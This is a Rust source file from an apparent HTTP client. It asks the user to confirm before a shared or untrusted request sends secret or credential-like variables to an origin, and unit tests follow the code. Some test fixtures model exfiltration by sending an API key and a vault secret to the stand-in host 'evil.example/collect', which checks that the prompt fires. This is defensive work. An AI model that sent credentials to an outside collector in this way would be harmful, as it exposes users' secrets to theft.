//! The confirmation before an untrusted request (see [`crate::request::trust`]) spends the
//! user's secrets on an origin: which origin, which variables, asked once per origin.

use crate::request::draft::{PreparedRequest, RequestDraft};
use crate::request::origin::origin_of;
use crate::request::secrets::is_secret_name;
use crate::request::trust::{Source, Trust};
use crate::request::variables::Environment;

/// What the user is asked before an untrusted request spends secrets.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SecretSpend {
    /// Where the request goes: `scheme://host:port`.
    pub origin: String,
    /// The secret or credential-looking variables whose values would go there, in the order
    /// they are first used.
    pub variables: Vec<String>,
    /// Where the request came from.
    pub source: Source,
}

/// What to confirm before `draft`, prepared (with secrets revealed) as `prepared`, is sent from a
/// page on `page_origin` with `environment` active; `None` when nothing needs confirming: the
/// request is trusted, uses no secret or credential-looking variable (a secret one, or one whose
/// name says key, token, secret, password, auth, cookie, session or signature), or was confirmed
/// for this origin. A reconnection goes to the same origin, so the confirmation at Send covers it.
pub fn secrets_to_confirm(
    draft: &RequestDraft,
    prepared: &PreparedRequest,
    environment: Option<&Environment>,
    page_origin: &str,
) -> Option<SecretSpend> {
    let Trust::Untrusted {
        source,
        confirmed_origins,
    } = &draft.trust
    else {
        return None;
    };
    let origin = origin_of(&prepared.url, page_origin);
    if confirmed_origins.contains(&origin) {
        return None;
    }
    let mut variables = draft.variable_names();
    variables.retain(|name| {
        environment
            .and_then(|environment| environment.get(name))
            .is_some_and(|variable| variable.is_secret || is_secret_name(&variable.name))
    });
    (!variables.is_empty()).then_some(SecretSpend {
        origin,
        variables,
        source: *source,
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::request::auth::Auth;
    use crate::request::draft::Method;
    use crate::request::trust::Trust;
    use crate::request::variables::{Secrets, Variable};

    const PAGE: &str = "http://127.0.0.1:8080";

    fn environment() -> Environment {
        let variable = |name: &str, is_secret| Variable {
            id: 0,
            name: name.into(),
            value: format!("value-of-{name}"),
            is_secret,
        };
        Environment {
            variables: vec![
                variable("openai_api_key", false),
                variable("vault", true),
                variable("model", false),
                variable("host", false),
            ],
            ..Environment::default()
        }
    }

    fn shared(url: &str, headers: &[(&str, &str)], body: &str) -> RequestDraft {
        let mut draft = RequestDraft::new(Method::Post, url.into(), headers, body.into());
        draft.trust = Trust::from(Source::ShareLink);
        draft
    }

    fn ask(draft: &RequestDraft) -> Option<SecretSpend> {
        let environment = environment();
        let prepared = draft
            .prepare(Some(&environment), Secrets::Reveal)
            .expect("prepares");
        secrets_to_confirm(draft, &prepared, Some(&environment), PAGE)
    }

    #[test]
    fn a_shared_request_that_would_send_a_key_elsewhere_asks_naming_origin_and_variables() {
        let draft = shared(
            "https://evil.example/collect?m={{model}}",
            &[("Authorization", "Bearer {{openai_api_key}}")],
            "{\"k\":\"{{vault}}\",\"again\":\"{{openai_api_key}}\"}",
        );
        assert_eq!(
            ask(&draft),
            Some(SecretSpend {
                origin: "https://evil.example".into(),
                variables: vec!["openai_api_key".into(), "vault".into()],
                source: Source::ShareLink,
            })
        );
    }

    #[test]
    fn secrets_in_auth_fields_count_too() {
        let mut draft = shared("https://api.example.com/v1", &[], "");
        draft.auth = Auth::Bearer {
            token: "{{vault}}".into(),
        };
        assert_eq!(
            ask(&draft).map(|spend| spend.variables),
            Some(vec!["vault".into()])
        );
    }

    #[test]
    fn nothing_is_asked_for_trusted_requests_or_requests_without_secrets() {
        let mut trusted = shared(
            "https://evil.example/",
            &[("x-api-key", "{{openai_api_key}}")],
            "",
        );
        trusted.trust = Trust::Trusted;
        assert_eq!(ask(&trusted), None);
        let harmless = shared("https://{{host}}/x?model={{model}}", &[], "");
        assert_eq!(ask(&harmless), None);
    }

    #[test]
    fn confirming_is_remembered_per_origin_and_another_origin_asks_again() {
        let mut draft = shared(
            "https://api.example.com/v1",
            &[("x-api-key", "{{openai_api_key}}")],
            "",
        );
        let origin = ask(&draft).expect("asks").origin;
        draft.trust.confirm(&origin);
        assert_eq!(ask(&draft), None);
        draft.url = "https://other.example/v1".into();
        assert_eq!(
            ask(&draft).map(|spend| spend.origin),
            Some("https://other.example".into())
        );
    }
}
